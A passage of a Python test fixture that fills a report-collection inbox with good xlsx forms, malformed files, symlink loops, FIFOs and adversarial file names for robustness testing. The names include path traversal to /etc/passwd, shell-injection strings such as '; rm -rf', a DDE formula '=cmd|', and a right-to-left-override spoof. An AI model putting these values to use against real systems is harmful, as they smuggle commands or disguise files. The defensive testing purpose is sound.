    *("x..%2f..%2fetc%2fpasswd.xlsx", "; rm -rf .xlsx", "$(touch x).xlsx", "n" * 250 + ".xlsx", "ẩn\u200b.xlsx"),
    *("bao\u0301 ca\u0301o to\u0302\u0309 ho\u031b\u0323p.xlsx", "slx.\u202excod.xlsx", "dong\nmoi.xlsx"),
    *("mau\x1b[31mdo\x07.xlsx", "'=1+1.xlsx", "=cmd|' C'!A0.xlsx", "con.xlsx", "x.xlsx.exe", " .xlsx"),
)


def file_names() -> tuple[str, ...]:
    """Names that a good form may have when it comes in."""
    more = (*_ODD_NAMES, os.fsdecode(b"kh\xf4ng ph\xe2i ch\xff.xlsx")) if os.name == "posix" else ()
    return (*_NAMES_ANYWHERE, *more)


AGENCIES = ("SA", "SB", "SC")
INDICATORS = """
| code | topic | label         | unit  | kind    | required | across_agencies | across_periods | formula    |
| A1   | Một   | Số buổi       | buổi  | count   | yes      | sum             | sum            |            |
| A2   | Một   | Số người      | người | decimal |          | sum             | last           |            |
| A3   | Một   | Tỷ lệ         | %     | percent |          |                 | last           | =A1/A2*100 |
| A7   | Hai   | Ngày ban hành | ngày  | date    |          | none            | none           |            |
"""
ROWS = """
| table | heading     | code | label    | unit  | kind  |
| VV    | Các vụ việc | TEN  | Vụ việc  |       | text  |
|       |             | SO   | Số người | người | count |
"""
SECTIONS = "| code | role | heading |\n| dat | achievement | Mặt đạt được |"


@dataclass(frozen=True, slots=True)
class Planted:
    """A campaign folder with files in its inbox, and the expectation of each file by its name."""

    folder: Folder
    rejected: dict[str, tuple[str, ...]]
    """The codes of which a refused file gives one."""
    accepted: dict[str, Accepted]
    agencies: dict[str, str]
    """The agency for which each accepted file counts."""


def filled_form(folder: Folder, agency: str) -> bytes:
    """A good filled form."""
    figures = "| code | 2019 | 2020 |\n| A1 | 5 | 7 |\n| A2 | 50 | 70 |\n| A7 | 2020-03-07 | |"
    lines = "".join(f"\n| dat | Ý thứ {n} của {agency} |" for n in range(len(PLANTED)))
    rows: tuple[Any, ...] = tuple({"TEN": f"Vụ {n} của {agency}", "SO": n + 1} for n in range(len(PLANTED)))
    content = replace(filling(figures, f"| section | text |{lines}"), rows={"VV": rows})
    path = write(folder, agency, content, name=f"{agency} filled")
    data = path.read_bytes()
    path.unlink()
    return data


def spots_of(folder: Folder, data: bytes) -> Spots:
    """The cells of this form."""
    path = folder.root / "spots.xlsx"
    path.write_bytes(data)
    sheet, turns = keyed(path)["table:VV"], range(len(PLANTED))
    rows = [row for row in sheet.rows if not row.for_people][: len(PLANTED)]
    numbers = {"guide": 1, "figures": 3, "table": 4, "statements": 5}
    parts = {name: f"xl/worksheets/sheet{number}.xml" for name, number in numbers.items()}
    spots = SimpleNamespace(
        figure=cell_of(path, "figures", "A1", "2019")[1],
        following=cell_of(path, "figures", "A1", "2020")[1],
        day=cell_of(path, "figures", "A7", "2019")[1],
        lines=[cell_of(path, "statements", "dat", "text", turn=n)[1] for n in turns],
        names=[sheet.address(row, "TEN") for row in rows],
        numbers=[sheet.address(row, "SO") for row in rows],
        **parts,
    )
    path.unlink()
    return spots


def plant(root: Path, usual: int = 10) -> Planted:
    """Writes the campaign folder, with what only some systems allow (pipes, odd names) if this one does; in the usual
    effort a part of the files: this number of good ones, of good names, and of others."""
    same = {name: Accepted(lambda data, _: data) for name in some(file_names(), usual)}
    chosen = {*("cong-thuc-va-lien-ket.xlsx", "lien-ket-trong-o-so.xlsx"), *some([*ACCEPTED], usual)}
    odd = {name: one for name, one in ACCEPTED.items() if name in chosen} | same
    codes = {name: f"H{n:02}" for n, name in enumerate(odd)} | {f"{code}.xlsx": code for code in AGENCIES}
    folder = campaign(root, [*codes.values(), "SX"])
    good = filled_form(folder, "SX")
    spots = spots_of(folder, good)
    expected = dict[str, tuple[str, ...]]()
    others = [file for file in refused(good, spots) if THOROUGH or file[0] not in ENDLESS]
    for name, data, finding in [*some(others, usual), *(file for file in others if file[0] in IN_A_PROCESS)]:
        (folder.inbox / name).write_bytes(data)
        expected[name] = finding
    for name, code in codes.items():
        form = filled_form(folder, code)
        (folder.inbox / name).write_bytes(odd[name].change(form, spots) if name in odd else form)
    expected |= _no_files(folder.inbox)
    return Planted(folder=folder, rejected=expected, accepted=odd, agencies=codes)


def campaign(root: Path, codes: Sequence[str]) -> Folder:
    """The campaign of all these files, with these agencies."""
    roster = "| code | name |" + "".join(f"\n| {code} | Đơn vị {code} |" for code in codes)
    return definition(root, agencies=roster, indicators=INDICATORS, rows=ROWS, sections=SECTIONS)


def _no_files(inbox: Path) -> dict[str, tuple[str, ...]]:
    """Entries of a folder named like a workbook that are no file, or an unreadable one."""
    (inbox / "thu-muc.xlsx").mkdir()
    (inbox / "~$SA.xlsx").write_bytes(b"\x05Nguyen" + bytes(158))
    (inbox / ".~lock.SA.xlsx#").write_bytes(b",nguyen,may,,;")
    (inbox / "desktop.ini").write_bytes(b"[x]")
    if os.name != "posix":
        return {}
    os.mkfifo(inbox / "ong-dan.xlsx")
    (inbox / "lien-ket-dut.xlsx").symlink_to("khong-co.xlsx")
    (inbox / "vong-tron.xlsx").symlink_to("vong-tron.xlsx")
    found: dict[str, tuple[str, ...]] = {"ong-dan.xlsx": ("took-too-long",)}
    found |= dict.fromkeys(("lien-ket-dut.xlsx", "vong-tron.xlsx"), ("unreadable-file",))
    if os.geteuid():
        (inbox / "khong-quyen.xlsx").write_bytes(b"PK")
        (inbox / "khong-quyen.xlsx").chmod(0)
        found["khong-quyen.xlsx"] = ("unreadable-file",)
    return found


if __name__ == "__main__":
    plant(Path(sys.argv[1]))
